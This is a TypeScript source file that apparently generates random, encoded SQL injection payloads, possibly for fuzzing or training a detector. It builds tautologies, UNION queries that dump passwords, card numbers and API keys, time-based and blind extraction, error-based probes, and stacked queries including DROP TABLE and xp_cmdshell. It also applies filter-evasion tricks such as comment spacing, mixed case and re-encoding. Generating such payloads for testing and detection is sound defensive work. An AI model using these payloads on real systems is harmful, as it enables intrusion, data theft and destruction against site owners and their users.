import type { Random } from '../../stats/random.ts'
import { anyEncoding, mixedCase, word } from './encode.ts'

const opens = ["'", '"', "')", '")', '', ')', "'))", "';"]
const ends = ['-- -', '--', '#', '/*', '-- ', ';--', "-- '"]
const tables = [
  'users',
  'customers',
  'orders',
  'information_schema.tables',
  'admin',
  'accounts',
  'wp_users',
]
const columns = ['password', 'email', 'username', 'card_number', 'api_key', 'token']
const calls = ['version()', 'database()', 'user()', '@@version', 'current_user', '@@datadir']

type Part = (random: Random) => string

function truth(random: Random): string {
  const n = 1 + random.below(9999)
  const letter = word(random, 1 + random.below(4))
  return random.pick([
    `OR ${n}=${n}`,
    `OR '${letter}'='${letter}`,
    `AND ${n}=${n + random.below(2)}`,
    `OR '${n}' LIKE '${n}'`,
    `|| ${n}=${n}`,
    `OR NOT ${n}=${n + 1}`,
    `AND ${n} BETWEEN ${n - 1} AND ${n + 1}`,
  ])
}

function union(random: Random): string {
  const width = 1 + random.below(12)
  const what = Array.from({ length: width }, (_, i) => random.pick(['NULL', String(i + 1), "'a'"]))
  what[random.below(width)] = random.chance(0.5)
    ? random.pick(calls)
    : `${random.pick(['concat', 'group_concat'])}(${random.pick(columns)},0x3a,${random.pick(columns)})`
  const from = random.chance(0.6) ? ` FROM ${random.pick(tables)}` : ''
  return `UNION ${random.pick(['', 'ALL ', 'DISTINCT '])}SELECT ${what.join(',')}${from}`
}

function delay(random: Random): string {
  const seconds = 3 + random.below(8)
  return random.pick([
    `AND SLEEP(${seconds})`,
    `AND (SELECT ${random.below(9999)} FROM (SELECT(SLEEP(${seconds})))${word(random, 4)})`,
    `; WAITFOR DELAY '0:0:${seconds}'`,
    `OR pg_sleep(${seconds})`,
    `AND BENCHMARK(${seconds}000000,MD5(1))`,
    `AND 1=dbms_pipe.receive_message('${word(random, 3)}',${seconds})`,
  ])
}

function blind(random: Random): string {
  const from = `(SELECT ${random.pick(columns)} FROM ${random.pick(tables)} LIMIT ${random.below(9)},1)`
  const at = 1 + random.below(24)
  return random.pick([
    `AND ASCII(SUBSTRING(${from},${at},1))>${32 + random.below(90)}`,
    `AND ORD(MID(${from},${at},1))=${32 + random.below(90)}`,
    `AND (CASE WHEN (SUBSTR(${from},${at},1)='${word(random, 1)}') THEN 1 ELSE 0 END)=1`,
  ])
}

function fault(random: Random): string {
  return random.pick([
    `AND EXTRACTVALUE(${random.below(9999)},CONCAT(0x7e,(SELECT ${random.pick(calls)})))`,
    `AND UPDATEXML(1,CONCAT(0x${random.below(255).toString(16)},${random.pick(calls)}),1)`,
    `AND 1=CAST((SELECT ${random.pick(calls)}) AS int)`,
    `AND 1=CONVERT(int,${random.pick(calls)})`,
  ])
}

function stacked(random: Random): string {
  return random.pick([
    `; DROP TABLE ${random.pick(tables)}`,
    `; UPDATE ${random.pick(tables)} SET ${random.pick(columns)}='${word(random)}' WHERE id=${1 + random.below(9)}`,
    `; INSERT INTO ${random.pick(tables)} VALUES(${random.below(99)},'${word(random)}')`,
    `; EXEC xp_cmdshell('${random.pick(['whoami', 'dir', 'net user'])}')`,
  ])
}

const parts: readonly Part[] = [truth, truth, union, union, delay, blind, fault, stacked]

/** Words apart with what a database takes for a space. */
function spaced(text: string, random: Random): string {
  if (random.chance(0.6)) return text
  const space = random.pick(['/**/', '\t', '\n', `/*${word(random, 3)}*/`])
  return text.replaceAll(' ', space)
}

function disguised(text: string, random: Random): string {
  let hidden = random.chance(0.4) ? mixedCase(text, random) : text
  if (random.chance(0.15)) hidden = hidden.replace(/(union|select|sleep)/i, '/*!50000$1*/')
  return spaced(hidden, random)
}

/** One SQL injection, encoded: the value of a parameter. */
export function sqlPayload(random: Random): string {
  const value = random.pick([
    '',
    String(1 + random.below(3000)),
    `-${1 + random.below(99)}`,
    word(random, 4),
  ])
  const body = disguised(random.pick(parts)(random), random)
  const gap = body.startsWith(';') ? '' : spaced(' ', random)
  const end =
    body.endsWith("'") || random.chance(0.15) ? '' : spaced(` ${random.pick(ends)}`, random)
  return anyEncoding(random)(`${value}${random.pick(opens)}${gap}${body}${end}`, random)
}
